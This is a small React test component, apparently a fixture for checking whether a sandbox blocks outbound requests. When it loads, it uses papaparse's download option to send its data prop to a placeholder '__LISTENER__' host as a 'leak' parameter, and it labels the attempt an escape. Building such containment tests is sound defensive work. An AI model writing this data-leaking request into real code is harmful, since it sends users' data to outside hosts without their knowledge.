import { useEffect } from "react";
import Papa from "papaparse";

// Escape attempt: library_papaparse_download — papaparse downloads a CSV from a URL (and posts the data)
export default function Hostile({ data }) {
  useEffect(() => {
    try {
      Papa.parse("__LISTENER__/library_papaparse_download/rows.csv?leak=" + JSON.stringify(data ?? null), {
        download: true,
        complete: () => console.info("downloaded"),
        error: (error) => console.info("contained", error && error.message),
      });
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">library_papaparse_download</p>;
}
